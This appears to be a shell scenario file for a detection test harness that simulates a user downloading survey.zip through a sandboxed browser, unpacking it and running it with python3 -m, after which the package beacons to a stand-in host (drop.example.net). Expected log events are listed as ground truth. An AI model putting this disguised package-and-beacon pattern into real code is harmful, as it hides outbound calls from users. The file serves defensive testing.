# A browser in a sandbox of its own folders, and a package run as a module.
title="Archive saved below ~/snap, its package run with python3 -m under script(1)"
what="A sandboxed browser saves survey.zip below ~/snap/chromium; the intern unpacks it in ~/snap/chromium and runs python3 -m survey inside script(1). The package posts to 203.0.113.66."
host=ws3.example.org user=intern daemons="cron" syslog_format=iso
stand_ins=("/snap/chromium/current/chrome stands in for a sandboxed Chromium: it fetches one file and writes it as a browser does")

setup() {
  compile browser /snap/chromium/current/usr/lib/chromium-browser/chrome
  mkdir -p "$base/out/t/survey"; touch "$base/out/t/survey/__init__.py"
  printf 'import urllib.request\nurllib.request.urlopen("http://drop.example.net/s", b"hello").read()\nprint("thank you")\n' > "$base/out/t/survey/__main__.py"
  (cd "$base/out/t" && zip -qr "$base/out/www/survey.zip" survey)
  install -d -o intern -g intern /home/intern/snap /home/intern/snap/chromium
}
act() {
  small_talk 2
  desktop_as intern -- /snap/chromium/current/usr/lib/chromium-browser/chrome 203.0.113.83 80 /survey.zip snap/chromium/common/Downloads/survey.zip; desktop_wait
  sleep 2
  console_as intern <<'L'
cd snap/chromium/common/Downloads
unzip -q survey.zip
script -qc 'python3 -m survey' /dev/null
L
}
truth() {
  file_step save 'chrome rename .*CREATE .*/snap/chromium/common/Downloads/survey.zip' 'the browser saves the archive'
  exec_step unpack 'unzip -q survey.zip' 'it is unpacked'
  exec_step execute 'python3 -m survey' 'its package is run'
  net_step beacon 'python3.* 203.0.113.66:80' 'and posts'
}
